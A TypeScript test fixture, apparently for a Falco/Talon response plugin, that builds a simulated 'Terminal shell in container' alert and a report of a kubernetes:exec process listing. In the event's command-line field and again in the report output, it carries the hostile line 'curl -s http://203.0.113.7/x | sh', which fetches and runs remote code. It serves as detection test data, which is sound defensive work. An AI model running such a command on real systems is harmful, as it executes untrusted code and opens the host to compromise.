import type { Report } from '@talon/plugin'
import { falcoEvent } from '@talon/testing'

const event = falcoEvent({
  rule: 'Terminal shell in container',
  priority: 'Warning',
  output: 'A shell was spawned in a container with an attached terminal | evt_type=execve user=root process=sh',
  hostname: 'worker-1',
  tags: ['container', 'maturity_stable', 'mitre_execution', 'shell', 'T1059'],
  time: '2026-11-24T09:41:07.204881935Z',
  fields: {
    'container.id': '4f1d2c8a9b07',
    'container.image.repository': 'registry.example.org/shop/web',
    'k8s.ns.name': 'shop',
    'k8s.pod.name': 'web-6d4cf56db6-x8x2k',
    'proc.cmdline': 'sh -c "curl -s http://203.0.113.7/x | sh"',
    'proc.pname': 'node',
    'user.name': 'root',
  },
})

/** The result that the pictures tell of. */
export const report: Report = {
  id: 'a-picture',
  stage: 'action',
  status: 'success',
  message: 'the script ended with exit code 0',
  output:
    'PID   USER     COMMAND\n    1 root     node server.js\n   41 root     sh -c curl -s http://203.0.113.7/x | sh\n   43 root     <defunct>',
  rule: 'Shell in a shop',
  action: 'See what runs',
  actionner: 'kubernetes:exec',
  dryRun: false,
  objects: { pod: 'web-6d4cf56db6-x8x2k', namespace: 'shop' },
  time: '2026-11-24T09:41:07.391Z',
  duration: 148,
  event,
  traceId: event.traceId,
}
